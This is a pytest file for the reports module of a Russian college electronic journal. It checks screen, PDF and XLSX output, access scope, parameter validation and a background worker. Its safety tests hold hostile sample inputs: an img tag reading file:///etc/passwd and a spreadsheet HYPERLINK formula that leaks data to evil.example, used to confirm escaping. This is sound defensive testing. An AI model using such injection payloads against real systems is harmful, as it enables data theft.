"""Reports: every provider through the hook, the screen, PDF and XLSX from one data function
agreeing (pdftotext sees the Cyrillic names and numbers of the screen), user text escaped, xhtml2pdf
reading only the package's fonts, scope (404) and bad parameters (422), long reports in the
worker."""

from __future__ import annotations

import html as html_module
import io
import logging
import os
import re
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from datetime import time as clock_time

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from core import migrate
from core.calendar.models import AcademicYear
from core.extensions import db
from core.people.models import Group, Guardian, Student, StudentGuardian, SubjectCommission
from core.people.roles import Role
from core.plugins import hook
from core.plugins.types import REPORT_PARAMS
from core.worker import TASKS
from plugins.grading import services as grading
from plugins.grading.tests.test_grading import signed_in
from plugins.grading.tests.world import build, save_on_the_day
from plugins.journal.models import Discipline, Lesson
from plugins.reports import pdf, render
from plugins.reports.models import ReportJob
from plugins.reports.views import CATEGORIES
from tests.fixtures import ROOT, csrf_token_from

PETROV, SMIRNOVA, KUZNETSOV, FEDOROVA = range(4)
TODAY = 11
MARKS_FOR_FIVE = (1, 2, 3, 4, 5, 6)
pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/pdftotext"),
                                reason="pdftotext (poppler-utils) is not installed")


@pytest.fixture
def world(app):
    return build(app, prefix="rp")


def save_marks(app, world, cells):
    save_on_the_day(app, world, grading.save_cells, "admin", cells)


def with_finals(app, world):
    """Петров 5 (with his marks), Кузнецов н/а, Фёдорова осв.; Смирнова left before the end."""
    save_marks(app, world, [{"lesson_id": world.lessons[i], "student_id": world.students[PETROV],
                             "value": "5", "version": None} for i in MARKS_FOR_FIVE])
    save_marks(app, world, [{"key": "term_final", "student_id": world.students[s], "value": v,
                             "version": None}
                            for s, v in ((PETROV, "5"), (KUZNETSOV, "н/а"), (FEDOROVA, "осв."))])


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF")
    done = subprocess.run(["pdftotext", "-raw", "-", "-"], input=content,
                          capture_output=True, check=True)
    return " ".join(done.stdout.decode().split())  # a cell's text may wrap onto two lines


def trimmed(row: list[str]) -> list[str]:
    while row and row[-1] == "":
        row = row[:-1]
    return row


def screen_rows(page: str, table: int = 0) -> list[list[str]]:
    """The body and footer rows of the page's ``table``-th report table, as the eye reads them."""
    found = re.findall(r'<table class="table[^"]*report-table.*?</table>', page, re.S)[table]
    rows = re.findall(r"<tr>(.*?)</tr>", found.split("</thead>")[1], re.S)
    return [trimmed([html_module.unescape(re.sub(r"<[^>]+>", "", cell)).strip()
                     for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]) for row in rows]


def sheet_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [trimmed([render.cell_text(value) for value in row])
            for row in sheet.iter_rows(values_only=True)]


def period(world) -> dict:
    return {"start": world.dates[0].isoformat(),
            "end": (world.dates[TODAY] + timedelta(days=30)).isoformat()}


# --- hooks ------------------------------------------------------------------------------------


def test_hook_report_providers(app):
    with app.app_context():
        found = [p for batch in hook().report_providers() for p in batch or ()]
    names = [p.name for p in found]
    assert len(names) == len(set(names))
    assert {"grading.progress", "grading.summary", "attendance.group", "attendance.summary",
            "journal.no_topic", "reports.year_journal", "reports.letter"} <= set(names)
    for provider in found:
        assert set(provider.params) <= set(REPORT_PARAMS), provider.name
        assert provider.category in CATEGORIES and provider.roles, provider.name


def test_hook_worker_tasks(app):
    assert "reports.run_job" in app.extensions[TASKS]


# --- one data function, three forms ----------------------------------------------------------


def test_progress_metrics_on_screen_in_pdf_and_xlsx(app, world):
    with_finals(app, world)
    admin = signed_in(app, world.users["admin"])
    args = {"group": world.ids["g1"], **period(world)}
    page = admin.get("/reports/grading.progress", query_string={"run": 1, **args})
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    by_discipline = screen_rows(text)
    # N 2 (5 and н/а; осв. apart): 50 % absolute and quality, СОУ (100 + 7) / 2, mean 5
    assert by_discipline[0][2:] == ["итоговые", "2", "1", "0", "0", "0", "1", "1", "50", "50",
                                    "53,5", "5"]
    assert "<svg" in text  # the chart by month
    sheet = sheet_rows(admin.get("/reports/grading.progress/file.xlsx", query_string=args).data)
    assert by_discipline[0] in sheet and by_discipline[-1] in sheet  # the footer too
    students = screen_rows(text, 1)
    assert all(row in sheet for row in students)
    printed = pdf_text(admin.get("/reports/grading.progress/file.pdf", query_string=args).data)
    assert "Итоги успеваемости группы ИСП-21" in printed
    assert "Петров Алексей Игоревич" in printed and "53,5" in printed and "Отличники" in printed


def test_attendance_hours_agree_between_screen_and_xlsx(app, world):
    from plugins.attendance import services as attendance

    save_on_the_day(app, world, attendance.save_cells, "admin", [
        {"lesson_id": world.lessons[3], "student_id": world.students[PETROV], "value": "н",
         "version": None},
        {"lesson_id": world.lessons[4], "student_id": world.students[KUZNETSOV],
         "value": "н1", "version": None},
        {"lesson_id": world.lessons[5], "student_id": world.students[KUZNETSOV],
         "value": "оп10", "version": None}])
    admin = signed_in(app, world.users["admin"])
    args = {"group": world.ids["g1"], **period(world)}
    rows = screen_rows(admin.get("/reports/attendance.group",
                                 query_string={"run": 1, **args}).get_data(as_text=True))
    by_name = {row[0]: row for row in rows}
    assert by_name["Петров Алексей Игоревич"][1] == "2"
    assert by_name["Кузнецов Иван Дмитриевич"][1:7] == ["1", "0", "0", "0", "1", "1"]
    assert rows[-1][:2] == ["Итого", "3"]  # lateness adds no hours
    sheet = sheet_rows(admin.get("/reports/attendance.group/file.xlsx", query_string=args).data)
    assert all(row in sheet for row in rows)


def test_the_summary_statement_prints_the_finals_and_signatures(app, world):
    from core import settings

    with_finals(app, world)
    with app.app_context():
        settings.put("college.director", "Иванов И. И.")
        db.session.commit()
        year_id = db.session.scalar(select(AcademicYear.id).where(AcademicYear.title == "rp-год"))
    admin = signed_in(app, world.users["admin"])
    response = admin.get("/reports/grading.summary/file.pdf",
                         query_string={"group": world.ids["g1"], "year": year_id})
    printed = pdf_text(response.data)
    assert "Сводная ведомость учёта успеваемости группы ИСП-21" in printed
    assert "Петров Алексей Игоревич" in printed and "н/а" in printed and "осв." in printed
    assert "Директор" in printed and "Иванов И. И." in printed and "М.П." in printed
    assert re.search(r"стр\. 1 из \d", printed)


# --- safety --------------------------------------------------------------------------------------


def test_user_text_prints_as_text(app, world):
    hostile = '<img src="file:///etc/passwd">'
    with app.app_context():
        db.session.execute(update(Lesson).where(Lesson.id == world.lessons[0]).values(topic=hostile))
        db.session.commit()
        year_id = db.session.scalar(select(AcademicYear.id).where(AcademicYear.title == "rp-год"))
    admin = signed_in(app, world.users["admin"])
    page = admin.get("/reports/reports.year_journal",
                     query_string={"run": 1, "group": world.ids["g1"], "year": year_id})
    token = csrf_token_from(page.get_data(as_text=True))
    started = admin.post("/reports/reports.year_journal/jobs",
                         data={"csrf_token": token, "group": world.ids["g1"], "year": year_id,
                               "format": "pdf"})
    assert started.status_code == 302
    job_id = int(started.headers["Location"].rsplit("/", 1)[1])
    app.extensions[TASKS]["reports.run_job"].call_local(job_id)  # the worker's task, here
    done = admin.get(f"/reports/jobs/{job_id}")
    assert "Скачать" in done.get_data(as_text=True)
    printed = pdf_text(admin.get(f"/reports/jobs/{job_id}/file").data)
    assert hostile in printed and "root:" not in printed
    assert "Журнал учебных занятий" in printed and "Петров А. И." in printed


HOSTILE_DISCIPLINE = '=HYPERLINK("http://evil.example/?leak","Алгоритмизация")'


def test_user_text_in_xlsx_is_text_not_a_formula(app, world):
    """A discipline or a student named like a formula comes out as text with a leading «'»;
    the numbers of the report stay numbers."""
    with_finals(app, world)
    names = ["+1", "-2", "@SUM(A1)", "\t=1"]
    with app.app_context():
        db.session.execute(update(Discipline).where(Discipline.id == world.ids["discipline"])
                           .values(code="", name=HOSTILE_DISCIPLINE, short_name=HOSTILE_DISCIPLINE))
        for student_id, name in zip(world.students, names, strict=True):
            db.session.execute(update(Student).where(Student.id == student_id)
                               .values(last_name=name))
        db.session.commit()
    admin = signed_in(app, world.users["admin"])
    content = admin.get("/reports/grading.progress/file.xlsx",
                        query_string={"group": world.ids["g1"], **period(world)}).data
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows()
             for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert "'" + HOSTILE_DISCIPLINE in texts
    assert any(text.startswith("'+1 ") for text in texts)
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.data_type == "n" and cell.value == 50 for cell in cells)  # a percentage


def test_xhtml2pdf_reads_only_the_packages_fonts(caplog):
    assert pdf.link_callback("file:///etc/passwd") == ""
    assert pdf.link_callback("/etc/hostname") == ""
    assert pdf.link_callback(str(pdf.FONTS / ".." / "ejournal.css")) == ""
    assert pdf.link_callback(str(pdf.FONT_FILES["regular"])) == str(pdf.FONT_FILES["regular"])
    with caplog.at_level(logging.WARNING, logger="plugins.reports.pdf"):
        content = pdf.render('<html><body><p>Текст</p><img src="file:///etc/passwd">'
                             '<img src="http://example.com/x.png"></body></html>')
    assert content.startswith(b"%PDF")
    assert "file:///etc/passwd" in caplog.text


# --- scope ---------------------------------------------------------------------------------------


def test_ids_that_do_not_exist_are_not_found(app, world):
    admin = signed_in(app, world.users["admin"])
    for name, args in (("grading.progress", {"group": 99999}),
                       ("grading.teacher", {"teacher": 99999}),
                       ("grading.teacher", {"teacher": world.users["deputy"].id}),  # no teacher
                       ("reports.letter", {"student": 99999})):
        assert admin.get(f"/reports/{name}", query_string={"run": 1, **args}).status_code == 404


def test_a_teacher_runs_only_their_own_results(app, world):
    teacher = signed_in(app, world.users["teacher"])
    own = teacher.get("/reports/grading.teacher",
                      query_string={"run": 1, "teacher": world.users["teacher"].id})
    assert own.status_code == 200 and "Основы алгоритмизации" in own.get_data(as_text=True)
    other = teacher.get("/reports/grading.teacher",
                        query_string={"run": 1, "teacher": world.users["other"].id})
    assert other.status_code == 404
    assert teacher.get("/reports/grading.teacher/file.pdf",
                       query_string={"teacher": world.users["other"].id}).status_code == 404
    # a group's results are the curator's and the administration's
    assert teacher.get("/reports/grading.progress",
                       query_string={"run": 1, "group": world.ids["g1"]}).status_code == 404
    listing = teacher.get("/reports/").get_data(as_text=True)
    assert "Результаты преподавателя" in listing and "Итоги успеваемости группы" not in listing


def test_a_commission_head_sees_a_teachers_results_in_their_commission_only(app, world,
                                                                            make_user):
    from core.people.models import SubjectCommission

    with app.app_context():
        commission = SubjectCommission(name="ПЦК математических дисциплин")
        db.session.add(commission)
        db.session.commit()
        commission_id = commission.id
    head = make_user("rp.head", roles=[Role.COMMISSION_HEAD], scope_id=commission_id)
    page = signed_in(app, head).get("/reports/grading.teacher", query_string={
        "run": 1, "teacher": world.users["teacher"].id})
    assert page.status_code == 200
    assert "Основы алгоритмизации" not in page.get_data(as_text=True)  # not their commission's


def test_a_curator_reports_on_their_own_group_only(app, world, make_user):
    curator = make_user("rp.curator", roles=[Role.CURATOR])
    with app.app_context():
        db.session.execute(update(Group).where(Group.id == world.ids["g2"])
                           .values(curator_id=curator.id))
        db.session.commit()
    client = signed_in(app, curator)
    assert client.get("/reports/attendance.group",
                      query_string={"run": 1, "group": world.ids["g2"]}).status_code == 200
    assert client.get("/reports/attendance.group",
                      query_string={"run": 1, "group": world.ids["g1"]}).status_code == 404


def test_a_parent_runs_only_their_childs_letter(app, world, make_user):
    parent = make_user("rp.parent", roles=[Role.PARENT])
    with app.app_context():
        guardian = Guardian(last_name="Петрова", first_name="Анна", user_id=parent.id)
        db.session.add(guardian)
        db.session.flush()
        db.session.add(StudentGuardian(student_id=world.students[PETROV],
                                       guardian_id=guardian.id))
        db.session.commit()
    save_marks(app, world, [{"lesson_id": world.lessons[2], "student_id": world.students[PETROV],
                             "value": "4", "version": None}])
    client = signed_in(app, parent)
    letter = client.get("/reports/reports.letter", query_string={"run": 1})
    text = letter.get_data(as_text=True)
    assert letter.status_code == 200 and "Петров Алексей Игоревич" in text
    # grading's diary section, for the default period (a month, or the term)
    assert re.search(r"Оценки (за семестр|с \d\d\.\d\d\.\d{4} по \d\d\.\d\d\.\d{4})", text)
    printed = pdf_text(client.get("/reports/reports.letter/file.pdf").data)
    assert "Информационное письмо" in printed and "Петров Алексей Игоревич" in printed
    for name in ("reports.letter", "grading.student"):
        refused = client.get(f"/reports/{name}",
                             query_string={"run": 1, "student": world.students[KUZNETSOV]})
        assert refused.status_code == 404
    assert client.get("/reports/grading.progress").status_code == 404


def test_a_job_is_its_owners_alone(app, world):
    with app.app_context():
        job = ReportJob(user_id=world.users["admin"].id, report="reports.fill_rates", params={},
                        file_format="pdf", status="done", content=b"%PDF-1.4", filename="x.pdf")
        db.session.add(job)
        db.session.commit()
        job_id = job.id
    deputy = signed_in(app, world.users["deputy"])
    assert deputy.get(f"/reports/jobs/{job_id}").status_code == 404
    assert deputy.get(f"/reports/jobs/{job_id}/file").status_code == 404
    assert signed_in(app, world.users["admin"]).get(f"/reports/jobs/{job_id}/file").data == \
        b"%PDF-1.4"


# --- bad input -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("args", "message"), [
    ({"group": "abc"}, "Выберите группу из списка."),
    ({}, "Выберите группу."),
    ({"start": "2026-10-01", "end": "2026-09-01"}, "Конец периода раньше его начала."),
    ({"start": "01.09.2026"}, "Дата указывается как ГГГГ-ММ-ДД."),
])
def test_bad_parameters_are_refused_in_russian(app, world, args, message):
    admin = signed_in(app, world.users["admin"])
    args.setdefault("group", world.ids["g1"]) if args and "group" not in args else None
    response = admin.get("/reports/grading.progress", query_string={"run": 1, **args})
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert admin.get("/reports/grading.progress/file.pdf", query_string=args).status_code == 422


# --- the built-in reports ------------------------------------------------------------------------


def test_fill_rates_count_arrivals_and_departures(app, world):
    admin = signed_in(app, world.users["admin"])
    start = world.dates[1]
    rows = screen_rows(admin.get("/reports/reports.fill_rates", query_string={
        "run": 1, "start": start.isoformat(), "end": world.dates[TODAY].isoformat()})
        .get_data(as_text=True))
    by_group = {row[0]: row[4:] for row in rows}
    assert by_group["ИСП-21"] == ["4", "0", "1", "3"]  # Смирнова left for ИСП-22
    assert by_group["ИСП-22"] == ["0", "1", "0", "1"]


def test_user_activity_counts_sign_ins_and_changes(app, world):
    save_marks(app, world, [{"lesson_id": world.lessons[2], "student_id": world.students[PETROV],
                             "value": "4", "version": None}])
    signed_in(app, world.users["teacher"])
    admin = signed_in(app, world.users["admin"])
    rows = screen_rows(admin.get("/reports/reports.activity",
                                 query_string={"run": 1}).get_data(as_text=True))
    by_name = {row[0]: row for row in rows}
    assert int(by_name["Васильев Павел Андреевич"][2]) >= 1
    assert int(by_name["Соколова Ирина Павловна"][2]) >= 1


def test_a_long_report_runs_in_a_real_worker(make_app, tmp_path):
    env = {**os.environ, "EJOURNAL_DATABASE_URL": f"sqlite:///{tmp_path / 'jobs.sqlite3'}",
           "EJOURNAL_INSTANCE_PATH": str(tmp_path / "instance"),
           "EJOURNAL_SECRET_KEY": "worker-test"}
    app = make_app(DATABASE_URL=env["EJOURNAL_DATABASE_URL"],
                   INSTANCE_PATH=env["EJOURNAL_INSTANCE_PATH"], SECRET_KEY="worker-test")
    migrate.upgrade(app)
    world = build(app, prefix="wk")
    with app.app_context():
        year_id = db.session.scalar(select(AcademicYear.id))
    admin = signed_in(app, world.users["admin"])
    page = admin.get("/reports/reports.year_journal",
                     query_string={"run": 1, "group": world.ids["g1"], "year": year_id})
    started = admin.post("/reports/reports.year_journal/jobs",
                         data={"csrf_token": csrf_token_from(page.get_data(as_text=True)),
                               "group": world.ids["g1"], "year": year_id, "format": "xlsx"})
    job_url = started.headers["Location"]
    waiting = admin.get(job_url).get_data(as_text=True)
    assert 'http-equiv="refresh"' in waiting and "progress-bar" in waiting
    worker = subprocess.Popen([sys.executable, "-m", "core.cli", "worker"], cwd=ROOT, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline:
            status = admin.get(job_url, headers={"Accept": "application/json"}).get_json()
            if status["status"] in ("done", "failed"):
                break
            time.sleep(0.2)
    finally:
        worker.terminate()
        worker.wait(timeout=20)
    assert status == {"status": "done", "percent": 100, "error": ""}
    sheet = sheet_rows(admin.get(job_url + "/file").data)
    assert any("Петров А. И." in row for row in sheet)


def test_every_report_answers_for_the_administration(app, world):
    """No report of any plugin fails on a small journal, on screen or as a file."""
    with_finals(app, world)
    with app.app_context():
        names = sorted(p.name for batch in hook().report_providers() for p in batch or ())
        year_id = db.session.scalar(select(AcademicYear.id).where(AcademicYear.title == "rp-год"))
        commission = SubjectCommission(name="ПЦК информационных технологий")
        db.session.add(commission)
        db.session.flush()
        db.session.get(Discipline, world.ids["discipline"]).commission_id = commission.id
        db.session.commit()
        commission_id = commission.id
    admin = signed_in(app, world.users["admin"])
    args = {"group": world.ids["g1"], "teacher": world.users["teacher"].id,
            "student": world.students[PETROV], "year": year_id, "commission": commission_id,
            **period(world)}
    for name in names:
        page = admin.get(f"/reports/{name}", query_string={"run": 1, **args})
        assert page.status_code == 200, name
        sheet = admin.get(f"/reports/{name}/file.xlsx", query_string=args)
        assert sheet.status_code in (200, 302), name  # a long report redirects to its form


def test_a_students_marks_over_the_term_are_charted(app, world):
    save_marks(app, world, [{"lesson_id": world.lessons[i], "student_id": world.students[PETROV],
                             "value": v, "version": None} for i, v in ((1, "3"), (4, "5"))])
    student = signed_in(app, world.users["student_user"])
    page = student.get("/reports/grading.student", query_string={"run": 1, **period(world)})
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "<polyline" in text and "Средний балл по неделям" in text
    assert screen_rows(text)[0][1:4] == ["3 5", "2", "4"]


def test_late_and_missing_finals_of_an_ended_term(app, world):
    from core.calendar.models import Term
    from plugins.grading.models import Final, History

    with_finals(app, world)  # Петров, Кузнецов and Фёдорова have finals; Смирнова has left
    ended = world.dates[TODAY] - timedelta(days=2)
    with app.app_context():
        db.session.execute(update(Term).where(Term.id == world.ids["term"])
                           .values(ends_on=ended))
        petrov = db.session.scalar(select(Final.id).where(
            Final.student_id == world.students[PETROV], Final.kind == "term"))
        db.session.execute(update(History).where(History.final_id != petrov)
                           .values(at=datetime.combine(ended, clock_time(12), UTC)))  # in time
        db.session.execute(update(History).where(History.final_id == petrov)
                           .values(at=datetime.combine(ended + timedelta(days=1), clock_time(12),
                                                       UTC)))  # the day after the term
        db.session.commit()
    admin = signed_in(app, world.users["admin"])
    rows = screen_rows(admin.get("/reports/grading.late_finals", query_string={
        "run": 1, "start": world.dates[0].isoformat(),
        "end": world.dates[TODAY].isoformat()}).get_data(as_text=True))
    day = ended.strftime("%d.%m.%Y")
    assert rows == [  # Петров's final came late; in ИСП-22 Смирнова has none
        ["ИСП-21", "ОП.04 Основы алгоритмизации и программирования", "Васильев П. А.", day,
         "0", "1"],
        ["ИСП-22", "ОП.04 Основы алгоритмизации и программирования", "Николаева А. Ю.", day,
         "1", "0"]]
